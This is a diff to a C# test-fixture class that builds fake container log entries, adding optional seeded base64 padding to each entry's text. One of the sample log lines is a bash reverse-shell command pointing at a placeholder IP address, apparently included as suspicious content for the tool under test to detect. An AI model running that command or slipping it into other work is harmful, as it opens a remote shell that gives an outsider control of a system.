@@ -16,16 +16,30 @@ internal static class FakeLogEntries
         "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
     ];
 
-    /// <summary><paramref name="count"/> entries within 25 minutes before to 4 minutes after the event, and decoys outside.</summary>
-    public static List<JsonObject> Container(int count)
+    /// <summary>
+    /// <paramref name="count"/> entries within 25 minutes before to 4 minutes after the event, and decoys outside;
+    /// each text followed by <paramref name="payloadBytes"/> characters of seeded pseudo-random base64 when positive.
+    /// </summary>
+    public static List<JsonObject> Container(int count, int payloadBytes = 0)
     {
         var entries = new List<JsonObject>();
+#pragma warning disable CA5394 // Not security: a seeded generator, so the same options give the same fixtures.
+        var random = new Random(count);
+        var raw = new byte[((Math.Max(0, payloadBytes) + 3) / 4) * 3];
         for (var i = 0; i < count; i++)
         {
             var time = EventTime.AddMinutes(-25 + (29.0 * i / Math.Max(1, count)));
             var revision = i % 4 == 0 ? CanaryRevision : LatestRevision;
-            entries.Add(ContainerEntry(i, time, Service, revision, s_lines[i % s_lines.Length]));
+            var text = s_lines[i % s_lines.Length];
+            if (payloadBytes > 0)
+            {
+                random.NextBytes(raw);
+                text = $"{text} {Convert.ToBase64String(raw)[..payloadBytes]}";
+            }
+
+            entries.Add(ContainerEntry(i, time, Service, revision, text));
         }
+#pragma warning restore CA5394
 
         entries.Add(ContainerEntry(90001, EventTime.AddHours(-2), Service, LatestRevision, "before the window"));
         entries.Add(ContainerEntry(90002, EventTime.AddMinutes(1), "other-api", "other-api-00001-aaa", "another service"));
